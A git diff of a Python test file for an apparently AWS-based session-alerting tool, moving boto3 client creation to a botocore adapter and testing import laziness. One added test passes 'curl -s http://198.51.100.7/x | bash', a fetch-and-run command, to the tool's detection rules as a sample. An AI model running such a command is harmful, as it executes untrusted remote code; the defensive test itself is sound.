@@ -10,8 +10,8 @@ import sys
 from pathlib import Path
 from typing import Any
 
-import boto3
 import pytest
+from sessionguard.adapters import aws
 from sessionguard.alerting import session_alerts
 
 from tests.support import REPO, fresh_powertools
@@ -33,6 +33,8 @@ NOT_AT_IMPORT = (
     "aws_lambda_powertools.utilities.idempotency",  # the delivery ledger, on its first delivery
     "aws_lambda_powertools.utilities.parameters",  # the Slack webhook's secret, on the first Slack delivery
     "sessionguard.guardrails.catalog",  # the guardrail function's, reached through ledger.calls before
+    "boto3",  # clients are botocore's (adapters.aws.sdk_session); boto3's DynamoDB types only when alerting
+    "s3transfer",  # imported by boto3
 )
 
 
@@ -47,17 +49,36 @@ def test_the_handler_module_imports_nothing_a_quiet_delivery_does_not_use() -> N
     assert completed.stdout.strip() == "[]"
 
 
-def test_building_the_outlets_makes_no_boto3_client_until_one_is_used(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_quiet_deliverys_set_up_imports_no_boto3() -> None:
+    """The rule pack, the outlets and the CloudWatch Logs client a quiet delivery writes with: botocore only."""
+    script = (
+        "import sys\n"
+        f"sys.path[:0] = [{str(REPO / 'functions' / 'session_alerts')!r}, {str(REPO / 'layers' / 'sessionguard')!r}]\n"
+        "import app\n"
+        "from sessionguard.alerting import session_alerts\n"
+        "session_alerts.default_rules().match('curl -s http://198.51.100.7/x | bash')\n"
+        "_, outlets = session_alerts.default_outlets()\n"
+        "outlets.transcripts._client\n"
+        "print(sorted(m for m in sys.modules if m.startswith(('boto3', 's3transfer'))))\n"
+    )
+    environment = {**os.environ, **ENVIRONMENT, "AWS_DEFAULT_REGION": "us-east-1"}
+    completed = subprocess.run(
+        [sys.executable, "-c", script], capture_output=True, text=True, check=True, env=environment
+    )
+    assert completed.stdout.strip() == "[]"
+
+
+def test_building_the_outlets_makes_no_aws_client_until_one_is_used(monkeypatch: pytest.MonkeyPatch) -> None:
     for name, value in ENVIRONMENT.items():
         monkeypatch.setenv(name, value)
     made: list[str] = []
-    real = boto3.client
+    real = aws.aws_client
 
     def recording_client(service: str, *args: Any, **kwargs: Any) -> Any:
         made.append(service)
-        return real(service, *args, **kwargs)  # type: ignore[call-overload]
+        return real(service, *args, **kwargs)
 
-    monkeypatch.setattr(boto3, "client", recording_client)
+    monkeypatch.setattr(aws, "aws_client", recording_client)
     for _ in fresh_powertools(session_alerts.default_outlets):
         _, outlets = session_alerts.default_outlets()
         assert made == []
